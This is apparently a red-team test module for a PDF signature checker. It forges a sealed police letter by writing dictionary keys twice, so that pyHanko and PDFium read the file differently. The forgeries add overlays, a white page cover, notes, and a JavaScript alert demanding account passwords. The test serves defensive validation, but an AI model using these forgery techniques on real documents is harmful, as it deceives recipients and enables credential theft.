"""Red team 4: a document timestamp that draws over the signed page (a key written twice).

Threat model: the forger holds one old genuine letter signed by the bound IPJ
Cluj seal (a copy served on a suspect, a forwarded mail) and wants it to say
something else to the person who reads it: another user, an extra demand.

`pdfsig` lets a revision follow a signature when it is a document timestamp
that verifies (its TSA need not chain to a pinned root: any TSA key will do)
and pyHanko's difference analysis classifies it at most LTA_UPDATES, "nothing
a reader sees". pyHanko decides "nothing a reader sees" for a new signature
field from its `/Rect` (`diff_analysis.rules.form_field_rules.is_field_visible`:
zero area = invisible). The field dictionary here is written with two `/Rect`
keys: pyHanko's reader, non-strict as `pdfsig.validate_pdf` opens the file,
keeps the first (`[0 0 0 0]`), PDFium (Chromium's viewer, pypdfium2) keeps the
last. The field is also an annotation whose `/Subtype` is FreeText, Square or
Text: PDFium draws a FreeText's `/Contents` with the form's `/DR` font, a white
Square over the letter, a note icon. pyHanko never looks at the subtype of a
new signature field's annotation and lets the form's new `/DR` pass.

Nothing else reads the signed file past its signed revision:
`binding.check_binding` reads the text of the revision the seal covers,
`unsigned_collect._files` skips a bound file whole, and the parse step reads
the text layer (no annotation), so no field changes and the request is
`verified` with another username on the page, an added demand, or a page
whited out.

No timestamp is even needed: an *empty* signature field (no /V) is a new
field pyHanko's SigFieldCreationRule clears at LTA_UPDATES when invisible, and
`pdfsig._later_entries` allows an "unsigned update" at LTA_UPDATES: the same
FreeText demand in an unsigned incremental update is `verified`.

Held (regression): the same annotation written with one `/Rect` (FORM_FILLING,
refused). Control: the letter followed by an ordinary invisible document
timestamp (PAdES-B-LTA's), `verified`.

Closed by class (`router/signatures/shown.py`, called by `pdfsig.validate_pdf`):
for a signature followed by later revisions, the signed revision and the whole
file are rendered by PDFium and compared; whatever is drawn after signing,
outside a later passing signature's own rectangle, fails the signature.
Variants of our own, beyond the annotation: the signed page's `/Contents`
written twice in an update (pyHanko reads the signed stream, PDFium the last,
which adds a white box and another username); a timestamp *widget* whose own
appearance stream covers the username (`/Rect` and `/AP` each written twice:
pyHanko reads no appearance on an invisible field); a demand
drawn inside a genuine countersignature's rectangle after it was signed; a
hidden note (nothing drawn, an unsigned comment); the catalog's `/OpenAction`
written twice, the last a script popping the demand up (nothing drawn: what
a viewer shows beside the pages or runs is compared too, `panels.py`).
Controls: a police letter countersigned by the prosecutor with a *visible*
signature (its appearance drawn in the margin after the first signature),
`verified`; and the same followed by an invisible document timestamp.
"""

from __future__ import annotations

import io
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers

from tests.attacks.harness import Attack, Submission
from tests.attacks.letters import letter
from tests.attacks.redteam4_kit import (
    WHITE_BOX,
    free_text,
    helvetica_resources,
    own_tsa,
    police_mail,
    timestamped_annotation,
)
from tests.attacks.redteam_kit import sealed_letter
from tests.samples.signatures.world import World, letter_pdf, sign_pdf

CLS = "redteam4_timestamp_shadow"
DEMAND = "P.S. Atasati la raspuns si parolele contului si conversatiile private."
# Where the sealed letter (tests.attacks.letters.letter) prints "ion_vanzator88." alone on
# a line, and the empty band under the signatory's line.
USER_LINE = [30.0, 633.0, 260.0, 653.0]
BELOW = [30.0, 560.0, 565.0, 585.0]


def _replaced_user(w: World) -> bytes:
    pdf = timestamped_annotation(
        w,
        "/FreeText",
        USER_LINE,
        free_text("maria_cumparatoare77."),
        form_extra=helvetica_resources(),
    )
    return pdf


def _freetext_demand_mail(w: World) -> Submission:
    pdf = timestamped_annotation(
        w, "/FreeText", BELOW, free_text(DEMAND), form_extra=helvetica_resources()
    )
    return police_mail(w, pdf)


def _replaced_user_mail(w: World) -> Submission:
    """Another username drawn over the letter's, and the demand below (two timestamps)."""
    pdf = timestamped_annotation(
        w,
        "/FreeText",
        BELOW,
        free_text(DEMAND),
        signed=_replaced_user(w),
        field="Stampila2",
    )
    return police_mail(w, pdf)


def _replaced_user_post(w: World) -> Submission:
    """The same PDF printed by nobody: dropped as the post room's file."""
    return Submission(_replaced_user(w), channel="post", filename="adresa.pdf")


def _white_page_mail(w: World) -> Submission:
    """A white Square over the whole letter (the 'hide' of the shadow family)."""
    pdf = timestamped_annotation(w, "/Square", [0.0, 0.0, 596.0, 842.0], WHITE_BOX)
    return police_mail(w, pdf)


def _note_demand_mail(w: World) -> Submission:
    """A note (sticky) icon whose text is the demand, opened by a click."""
    pdf = timestamped_annotation(
        w, "/Text", [540.0, 800.0, 560.0, 820.0], {"/Contents": free_text(DEMAND)["/Contents"]}
    )
    return police_mail(w, pdf)


def _hidden_note_mail(w: World) -> Submission:
    """A note with the hidden flag (nothing drawn on the page) whose text is the demand: an
    unsigned comment a viewer's comment list may still show; nothing may be added unsigned."""
    keys = {**free_text(DEMAND), "/F": generic.NumberObject(2)}
    pdf = timestamped_annotation(w, "/Text", [540.0, 800.0, 560.0, 820.0], keys)
    return police_mail(w, pdf)


def _empty_field_mail(w: World) -> Submission:
    pdf = timestamped_annotation(
        w, "/FreeText", BELOW, free_text(DEMAND), form_extra=helvetica_resources(), timestamp=False
    )
    return police_mail(w, pdf)


def _one_rect_mail(w: World) -> Submission:
    pdf = timestamped_annotation(
        w,
        "/FreeText",
        BELOW,
        free_text(DEMAND),
        form_extra=helvetica_resources(),
        two_rects=False,
    )
    return police_mail(w, pdf)


def _invisible_timestamp_mail(w: World) -> Submission:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(sealed_letter(w)))
    stamper = signers.PdfTimeStamper(own_tsa(w), field_name="MarcaTemporala")
    return police_mail(w, bytes(stamper.timestamp_pdf(writer, "sha256").getvalue()))


# ----------------------------------------------------------------- variants of our own

N = generic.NameObject
# What the update draws over the username line: a white box and another username.
COVER_USER = b"q 1 g 28 631 234 24 re f Q BT /F1 12 Tf 0 g 32 638 Td (maria_cumparatoare77.) Tj ET"
# The margin box a visible countersignature is drawn in (nothing of the letter there).
MARGIN = (380.0, 40.0, 570.0, 110.0)
APPROVED = (
    letter()
    + "\nVăzut și aprobat,\nProcuror Ionescu Maria, Parchetul de pe lângă Tribunalul Cluj\n"
)


class _Twice(generic.DictionaryObject):
    """A dictionary written with the keys of `first` before its own: pyHanko's non-strict
    reader keeps the first value of a key written twice, PDFium the last."""

    first: dict[generic.NameObject, generic.PdfObject]

    def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
        stream.write(b"<<\n")
        for key, value in [*self.first.items(), *self.items()]:
            key.write_to_stream(stream, handler, container_ref)
            stream.write(b" ")
            value.write_to_stream(stream, handler, container_ref)
            stream.write(b"\n")
        stream.write(b">>")


def _twice(keys: dict[generic.NameObject, generic.PdfObject], first: dict[Any, Any]) -> _Twice:
    out = _Twice(keys)
    out.first = first
    return out


def _new_field(writer: IncrementalPdfFileWriter, field: generic.DictionaryObject) -> None:
    """`field` (an annotation of page 1) added to the page's /Annots and the form's /Fields."""
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    ref = writer.add_object(field)
    page = page_ref.get_object()
    annots = page.get("/Annots")
    if annots is None:
        page[N("/Annots")] = generic.ArrayObject([ref])
    else:
        annots.append(ref)
    writer.update_container(page)
    writer.root["/AcroForm"]["/Fields"].append(ref)
    writer.update_container(writer.root["/AcroForm"])


def _stamped(w: World, writer: IncrementalPdfFileWriter, field: str = "Stampila") -> bytes:
    stamper = signers.PdfTimeStamper(own_tsa(w), field_name=field)
    return bytes(stamper.timestamp_pdf(writer, "sha256").getvalue())


def _contents_twice(w: World) -> bytes:
    """An invisible timestamp field, and the signed page rewritten with /Contents twice: the
    signed stream first (pyHanko), then [signed stream, a stream over the username] (PDFium)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed_letter(w)), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    _new_field(
        writer,
        generic.DictionaryObject(
            {
                N("/FT"): N("/Sig"),
                N("/T"): generic.TextStringObject("Stampila"),
                N("/Type"): N("/Annot"),
                N("/Subtype"): N("/Widget"),
                N("/Rect"): generic.ArrayObject([generic.FloatObject(0)] * 4),
                N("/F"): generic.NumberObject(4),
                N("/P"): page_ref,
            }
        ),
    )
    page = page_ref.get_object()
    signed = page.raw_get("/Contents")
    added = writer.add_object(generic.StreamObject(stream_data=COVER_USER))
    shown = list(signed) if isinstance(signed, generic.ArrayObject) else [signed]
    keys = dict(page)
    keys[N("/Contents")] = generic.ArrayObject([*shown, added])
    writer.objects[(page_ref.generation, page_ref.idnum)] = _twice(keys, {N("/Contents"): signed})
    return _stamped(w, writer)


def _contents_twice_mail(w: World) -> Submission:
    return police_mail(w, _contents_twice(w))


def _widget_appearance_mail(w: World) -> Submission:
    """A timestamp widget (two /Rect) whose own appearance stream covers the username."""
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed_letter(w)), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    width, height = USER_LINE[2] - USER_LINE[0], USER_LINE[3] - USER_LINE[1]
    font = helvetica_resources()["/DR"]
    look = generic.StreamObject(
        {
            N("/Type"): N("/XObject"),
            N("/Subtype"): N("/Form"),
            N("/BBox"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (0, 0, width, height)]
            ),
            N("/Resources"): font,
        },
        stream_data=b"q 1 g 0 0 %.1f %.1f re f Q BT /Helv 12 Tf 0 g 2 5 Td (maria_cumparatoare77.) Tj ET"
        % (width, height),
    )
    keys = {
        N("/FT"): N("/Sig"),
        N("/T"): generic.TextStringObject("Stampila"),
        N("/Type"): N("/Annot"),
        N("/Subtype"): N("/Widget"),
        N("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in USER_LINE]),
        N("/F"): generic.NumberObject(4),
        N("/P"): page_ref,
        N("/AP"): generic.DictionaryObject({N("/N"): writer.add_object(look)}),
    }
    zero = generic.ArrayObject([generic.FloatObject(0)] * 4)
    _new_field(writer, _twice(keys, {N("/Rect"): zero, N("/AP"): generic.NullObject()}))
    return police_mail(w, _stamped(w, writer))


def _catalog_script_mail(w: World) -> Submission:
    """A timestamp revision rewriting the catalog with /OpenAction twice: the signed one
    (pyHanko reads it: nothing changed) and a script that pops the demand up (PDFium,
    Acrobat). Nothing is drawn on the page: the viewer shows a dialog."""
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed_letter(w)), strict=False)
    script = generic.DictionaryObject(
        {
            N("/S"): N("/JavaScript"),
            N("/JS"): generic.TextStringObject(f'app.alert("{DEMAND}");'),
        }
    )
    keys = dict(writer.root)
    signed = keys.get(N("/OpenAction"), generic.NullObject())
    keys[N("/OpenAction")] = writer.add_object(script)
    writer.update_root()
    ref = writer.root_ref
    writer.objects[(ref.generation, ref.idnum)] = _twice(keys, {N("/OpenAction"): signed})
    return police_mail(w, _stamped(w, writer, "MarcaTemporala"))


def _countersigned_visibly(w: World) -> bytes:
    """The police letter naming the prosecutor's approval, sealed by the police, then sealed
    by the prosecutor's office in a new *visible* field in the margin (its appearance)."""
    first = sign_pdf(letter_pdf(APPROVED), w.seals["ipj_cluj"])
    return sign_pdf(first, w.seals["parchet"], field_name="Aprobare", box=MARGIN)


def _countersigned_visibly_mail(w: World) -> Submission:
    return police_mail(w, _countersigned_visibly(w))


def _countersigned_visibly_then_timestamped(w: World) -> Submission:
    writer = IncrementalPdfFileWriter(io.BytesIO(_countersigned_visibly(w)))
    return police_mail(w, _stamped(w, writer, "MarcaTemporala"))


def _drawn_in_countersignature_mail(w: World) -> Submission:
    """After the visible countersignature, a FreeText (two /Rect) inside its rectangle: what the
    prosecutor's appearance shows is no longer what the prosecutor signed."""
    inside = [MARGIN[0] + 4, MARGIN[1] + 4, MARGIN[2] - 4, MARGIN[1] + 30]
    pdf = timestamped_annotation(
        w,
        "/FreeText",
        inside,
        free_text("si parolele contului."),
        signed=_countersigned_visibly(w),
        form_extra=helvetica_resources(),
    )
    return police_mail(w, pdf)


def _attack(name: str, genuine: bool, build, gap: str = "") -> Attack:  # noqa: ANN001
    return Attack(CLS, name, genuine, build, policy_toml=World.policy_toml, known_gap=gap)


ATTACKS = [
    _attack("freetext_demand_in_timestamp_field_two_rects", False, _freetext_demand_mail),
    _attack("username_redrawn_and_demand_added_two_timestamps", False, _replaced_user_mail),
    _attack("username_redrawn_on_paper", False, _replaced_user_post),
    _attack("white_square_hides_signed_page", False, _white_page_mail),
    _attack("note_icon_with_demand", False, _note_demand_mail),
    _attack("freetext_demand_in_empty_signature_field_no_timestamp", False, _empty_field_mail),
    _attack("freetext_demand_one_rect_is_visible", False, _one_rect_mail),
    _attack("genuine_invisible_document_timestamp", True, _invisible_timestamp_mail),
    _attack("page_contents_key_written_twice", False, _contents_twice_mail),
    _attack("hidden_note_added_after_signing", False, _hidden_note_mail),
    _attack("alert_script_by_catalog_key_written_twice", False, _catalog_script_mail),
    _attack("timestamp_widget_appearance_over_username", False, _widget_appearance_mail),
    _attack("demand_drawn_inside_countersignature_box", False, _drawn_in_countersignature_mail),
    _attack("genuine_visible_countersignature_in_margin", True, _countersigned_visibly_mail),
    _attack(
        "genuine_visible_countersignature_then_timestamp",
        True,
        _countersigned_visibly_then_timestamped,
    ),
]
